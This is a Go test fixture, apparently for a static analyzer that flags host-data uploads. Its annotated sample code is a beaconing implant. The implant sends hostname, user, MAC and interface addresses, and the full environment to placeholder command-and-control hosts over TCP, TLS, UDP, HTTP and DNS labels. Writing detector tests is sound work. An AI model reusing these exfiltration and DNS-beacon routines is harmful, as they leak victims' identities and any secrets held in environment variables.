// Annotated samples for the telemetry pack (Go): an implant that registers with its
// controller and beacons host identity and environment over TCP, TLS, UDP, HTTP and DNS.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/user"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"
)

const (
	c2      = "https://cdn-update.example.net"
	version = "4.2.1"
)

type SysInfo struct {
	ID       string   `json:"id"`
	Hostname string   `json:"hostname"`
	User     string   `json:"user"`
	OS       string   `json:"os"`
	MACs     []string `json:"macs"`
}

type Config struct {
	Server   string `json:"server"`
	Interval int    `json:"interval"`
}

type Implant struct {
	id     string
	host   string
	user   string
	conn   net.Conn
	client *http.Client
	cfg    Config
}

// gather fills receiver fields that other methods send.
func (im *Implant) gather() {
	im.host, _ = os.Hostname()
	if u, err := user.Current(); err == nil {
		im.user = u.Username
	}
}

func (im *Implant) connect(addr string) error {
	conn, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return err
	}
	im.conn = conn
	return nil
}

// register sends what gather stored: the flow goes through im.host and im.user.
func (im *Implant) register() error {
	msg := fmt.Sprintf("REG %s %s %s %s/%s\n", im.id, im.host, im.user, runtime.GOOS, runtime.GOARCH)
	_, err := im.conn.Write([]byte(msg)) // want "telemetry/host-identity-upload"
	return err
}

func macs() []string {
	var out []string
	ifaces, _ := net.Interfaces()
	for _, ifc := range ifaces {
		if len(ifc.HardwareAddr) > 0 {
			out = append(out, ifc.HardwareAddr.String())
		}
	}
	return out
}

// checkin posts a JSON document built from a struct literal.
func (im *Implant) checkin() (*http.Response, error) {
	info := SysInfo{ID: im.id, Hostname: im.host, User: im.user, OS: runtime.GOOS, MACs: macs()}
	body, err := json.Marshal(info)
	if err != nil {
		return nil, err
	}
	req, err := http.NewRequest(http.MethodPost, c2+"/api/checkin", bytes.NewReader(body)) // want "telemetry/host-identity-upload"
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/json")
	return im.client.Do(req)
}

// poll asks for tasks; the host name rides in a request header.
func (im *Implant) poll() (*http.Response, error) {
	req, err := http.NewRequest(http.MethodGet, c2+"/api/tasks", nil) // ok: the URL and body are constant
	if err != nil {
		return nil, err
	}
	req.Header.Set("X-Session", im.id)
	req.Header.Set("X-Host", im.host)
	return im.client.Do(req) // todo "telemetry/host-identity-upload"
}

// beaconURL puts the host name in the query string.
func beaconURL(host string) error {
	q := url.Values{}
	q.Set("h", host)
	q.Set("v", version)
	resp, err := http.Get(c2 + "/b?" + q.Encode()) // todo "telemetry/host-identity-upload"
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

func beaconPath(host string) error {
	resp, err := http.Get(fmt.Sprintf("%s/b/%s/%d", c2, url.PathEscape(host), os.Getpid())) // want "telemetry/host-identity-upload"
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

func (im *Implant) beacons() {
	_ = beaconURL(im.host)
	_ = beaconPath(im.host)
}

// dnsBeacon leaks the host name as a DNS label.
func dnsBeacon(id string) {
	h, _ := os.Hostname()
	label := hex.EncodeToString([]byte(h))
	if len(label) > 60 {
		label = label[:60]
	}
	net.LookupHost(label + "." + id + ".ns1.example.org") // want "telemetry/host-identity-upload"
}

// dnsResolver does the same through a net.Resolver: the name is the second argument.
func dnsResolver(ctx context.Context) {
	r := &net.Resolver{PreferGo: true}
	u, _ := user.Current()
	r.LookupTXT(ctx, hex.EncodeToString([]byte(u.Username))+".t.example.org") // want "telemetry/host-identity-upload"
}

// udpReport sends every interface address in one datagram.
func udpReport(addr string) error {
	raddr, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return err
	}
	c, err := net.DialUDP("udp", nil, raddr)
	if err != nil {
		return err
	}
	defer c.Close()
	addrs, _ := net.InterfaceAddrs()
	var sb strings.Builder
	for _, a := range addrs {
		sb.WriteString(a.String())
		sb.WriteByte(';')
	}
	_, err = c.Write([]byte(sb.String())) // want "telemetry/host-identity-upload"
	return err
}

// tlsRegister writes with fmt.Fprintf straight into the connection.
func tlsRegister(addr string) error {
	conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer conn.Close()
	h, _ := os.Hostname()
	fmt.Fprintf(conn, "REGISTER %s uid=%d\n", h, os.Getuid()) // want "telemetry/host-identity-upload"
	uid := strconv.Itoa(os.Getuid())
	_, err = conn.Write([]byte("UID " + uid + "\n")) // want "telemetry/host-identity-upload"
	return err
}

// heartbeat sends through a method value.
func (im *Implant) heartbeat() {
	send := im.conn.Write
	h, _ := os.Hostname()
	send([]byte("HB " + h + "\n")) // want "telemetry/host-identity-upload"
}

// run hands data to a sender goroutine over a channel.
func (im *Implant) run() {
	out := make(chan []byte, 16)
	go im.sender(out)
	h, _ := os.Hostname()
	out <- []byte(h)
	out <- []byte(os.Getenv("USERDOMAIN"))
}

func (im *Implant) sender(out <-chan []byte) {
	for b := range out {
		im.conn.Write(b) // want "telemetry/host-identity-upload" "telemetry/environment-upload"
	}
}

// pump receives results in a select.
func (im *Implant) pump(results <-chan string, quit <-chan struct{}) {
	for {
		select {
		case r := <-results:
			im.conn.Write([]byte(r + "\n")) // want "telemetry/host-identity-upload"
		case <-quit:
			return
		}
	}
}

func (im *Implant) startPump() {
	results := make(chan string)
	quit := make(chan struct{})
	go im.pump(results, quit)
	u, _ := user.Current()
	results <- u.Username
	close(quit)
}

// asyncReport sends from a goroutine closure that captures the user.
func (im *Implant) asyncReport() {
	u, _ := user.Current()
	go func() {
		im.conn.Write([]byte("USER " + u.Username + "\n")) // want "telemetry/host-identity-upload"
	}()
}

// postJSON is a closure called through a local variable.
func (im *Implant) postAll() {
	post := func(path string, v any) {
		b, _ := json.Marshal(v)
		im.client.Post(c2+path, "application/json", bytes.NewReader(b)) // want "telemetry/host-identity-upload"
	}
	h, _ := os.Hostname()
	post("/api/host", map[string]string{"host": h})
}

// profile sends selected environment variables as a JSON map.
func (im *Implant) profile() {
	env := map[string]string{
		"user":    os.Getenv("USERNAME"),
		"domain":  os.Getenv("USERDOMAIN"),
		"profile": os.Getenv("USERPROFILE"),
	}
	b, _ := json.Marshal(env)
	http.Post(c2+"/api/env", "application/json", bytes.NewReader(b)) // want "telemetry/environment-upload"
}

// dumpEnv sends the whole environment.
func (im *Implant) dumpEnv() {
	all := strings.Join(os.Environ(), "\n")
	im.conn.Write([]byte(all)) // want "telemetry/environment-upload"
	if proxy, ok := os.LookupEnv("HTTPS_PROXY"); ok {
		http.PostForm(c2+"/api/proxy", url.Values{"proxy": {proxy}}) // want "telemetry/environment-upload"
	}
}

// loadConfig reads the agent's own configuration from a path built from the environment.
func loadConfig() Config {
	path := filepath.Join(os.Getenv("ProgramData"), "Vendor", "agent.json")
	var cfg Config
	if data, err := os.ReadFile(path); err == nil {
		_ = json.Unmarshal(data, &cfg)
	}
	return cfg
}

// ping reaches the server named in the configuration: no host data is sent.
func (im *Implant) ping() error {
	im.cfg = loadConfig()
	resp, err := http.Get(im.cfg.Server + "/ping") // todo-ok "telemetry/file-content-upload" (a server URL read from the config file is not telemetry)
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

// hello sends only a tag from the command line; the host name is only logged.
func (im *Implant) hello() {
	h, _ := os.Hostname()
	log.Printf("agent starting on %s", h)
	tag := "default"
	if len(os.Args) > 1 {
		tag = os.Args[1]
	}
	im.conn.Write([]byte("HELLO " + tag + " " + version + "\n")) // ok: a command-line tag and a constant
}

// keepalive sends constants and a timestamp.
func (im *Implant) keepalive() {
	for {
		im.conn.Write([]byte("PING\n")) // ok: constant data is not telemetry
		ts := strconv.FormatInt(time.Now().Unix(), 10)
		im.conn.Write([]byte("T " + ts + "\n")) // ok: the clock is not host data
		time.Sleep(30 * time.Second)
	}
}

// debugLevel reads an environment variable that only configures local logging.
func (im *Implant) debugLevel() {
	if os.Getenv("AGENT_DEBUG") == "1" {
		log.SetFlags(log.Lshortfile)
	}
	fmt.Println("host:", im.host, "user:", os.Getenv("USERNAME"))
	im.conn.Write([]byte("STATUS ok\n")) // ok: host data is printed, a constant is sent
}

func main() {
	im := &Implant{id: "a1b2", client: &http.Client{Timeout: 20 * time.Second}}
	im.gather()
	if err := im.connect("198.51.100.7:443"); err != nil {
		return
	}
	im.register()
	im.checkin()
	im.poll()
	im.beacons()
	dnsBeacon(im.id)
	dnsResolver(context.Background())
	udpReport("198.51.100.7:53")
	tlsRegister("198.51.100.7:8443")
	im.heartbeat()
	im.run()
	im.startPump()
	im.asyncReport()
	im.postAll()
	im.profile()
	im.dumpEnv()
	im.ping()
	im.hello()
	im.debugLevel()
	im.keepalive()
}
